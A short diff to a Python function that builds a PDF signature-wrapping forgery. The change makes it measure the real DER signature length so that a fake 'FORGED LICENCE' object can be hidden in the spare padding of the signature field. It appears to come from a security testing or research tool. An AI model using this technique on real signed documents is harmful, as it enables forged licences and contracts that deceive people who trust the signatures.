@@ -242,8 +242,14 @@ def signature_wrapping(pdf: bytes) -> bytes:
     can notice)."""
     _, a, b, _ = byte_range(pdf)
     hex_digits = pdf[a + 1 : b - 1]
-    der_hex = hex_digits.rstrip(b"0")
-    der_hex += b"0" * (len(der_hex) % 2)
+    # Cut at the DER length, not at trailing zeros: the signature itself may end in "0".
+    head = bytes.fromhex(hex_digits[:16].decode("ascii"))
+    if head[1] < 0x80:
+        length = 2 + head[1]
+    else:
+        size = head[1] & 0x7F
+        length = 2 + size + int.from_bytes(head[2 : 2 + size], "big")
+    der_hex = hex_digits[: 2 * length]
     payload = b"\n% 99 0 obj << /Length 44 >> stream BT (FORGED LICENCE) Tj ET endstream\n"
     room = len(hex_digits) - len(der_hex)
     assert room > len(payload)
